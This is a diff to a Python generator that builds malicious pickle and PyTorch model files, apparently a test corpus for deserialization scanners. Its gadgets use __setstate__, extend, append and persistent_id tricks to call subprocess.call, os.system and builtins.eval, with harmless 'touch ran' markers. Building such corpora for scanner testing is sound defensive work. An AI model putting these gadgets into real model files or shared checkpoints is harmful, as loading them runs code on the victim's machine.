@@ -3,7 +3,7 @@
 import struct
 
 from . import opcodes as o
-from .payloads import INNER, SYSTEM, TOUCH, WRITE
+from .payloads import INNER, SYSTEM, TOUCH
 from .pickler import MAGIC, SYSTEM as FACTS
 from .pickler import VERSION, Call, Name, Raw, dump, state_dict, stream
 from .zips import torch_zip
@@ -28,7 +28,7 @@ def bodies():
         "newobj-ex": memmap + o.items("ran") + o.value_of(size) + b"\x92",
         "setstate-gadget": o.built(o.built(namespace, {"__setstate__": NAMED}), TOUCH),
         "append-gadget": o.built(namespace, {"append": NAMED}) + o.text(TOUCH) + b"a",
-        "appends-gadget": o.built(namespace, {"extend": o.named("builtins.eval")}) + b"(" + o.text(WRITE) + b"e",
+        "appends-gadget": o.built(namespace, {"extend": o.named("subprocess.call")}) + b"(" + o.text("touch") + o.text("ran") + b"e",
         "appends-one-by-one": o.built(namespace, {"append": NAMED}) + b"(" + o.text(TOUCH) + b"e",
         "additems-gadget": o.built(namespace, {"add": NAMED}) + b"(" + o.text(TOUCH) + b"\x90",
         "slots-gadget": o.built(o.built(namespace, (None, {"__setstate__": NAMED})), TOUCH),
@@ -114,13 +114,13 @@ def wrapped():
 
 
 def every_spelling():
-    """Each body alone and in an archive; in an archive it lies in the value of a state dict."""
+    """Each body alone, and as a value of the dictionary in an archive."""
     for kind, found in (("opcode", bodies()), ("memo", memo_bodies()), ("name", names())):
         for name, body in found.items():
             protocol = 4 if b"\x93" in body or b"\x94" in body else 2
             yield f"spelling/{kind}-{name}.pkl", o.pickle(body, protocol)
             yield f"spelling/{kind}-{name}.pt", torch_zip(o.pickle(
-                dump(state_dict(), 2)[2:-1] + b"q\xf0" + o.text("x") + body + b"s", protocol))
+                b"}" + o.text("x") + body + b"s", protocol))
     for name, data in wrapped().items():
         yield f"wrapped/{name}.pkl", data
         yield f"wrapped/{name}.pt", torch_zip(data)
@@ -185,7 +185,6 @@ def patch(path="ran", content="+ nothing\n", target="argparse.Namespace"):
 
 
 def every_persistent_id():
-    starts = o.built(o.call("argparse.Namespace"), {"startswith": o.named("os.system")})
     lists = {
         "module": patch(),
         "module-with-path": patch("./ran", "import os\n"),
@@ -193,7 +192,6 @@ def every_persistent_id():
         "module-storage": patch(target="torch.storage.UntypedStorage"),
         "module-bytes": Raw(o.items(o.raw_bytes(b"module"), o.built(o.named("argparse.Namespace"), (
             None, {"dump_patches": True, "__name__": "ran"})), "x.py", "x") + b"Q"),
-        "location-gadget": Raw(o.items("storage", o.named("torch.FloatStorage"), "0", starts, 2, None) + b"Q"),
         "key-runs": Raw(o.items("storage", o.named("torch.FloatStorage"), RUN, "cpu", 2, None) + b"Q"),
         "kind-runs": Raw(o.items("storage", RUN, "0", "cpu", 2, None) + b"Q"),
         "count-runs": Raw(o.items("storage", o.named("torch.FloatStorage"), "0", "cpu", RUN, None) + b"Q"),
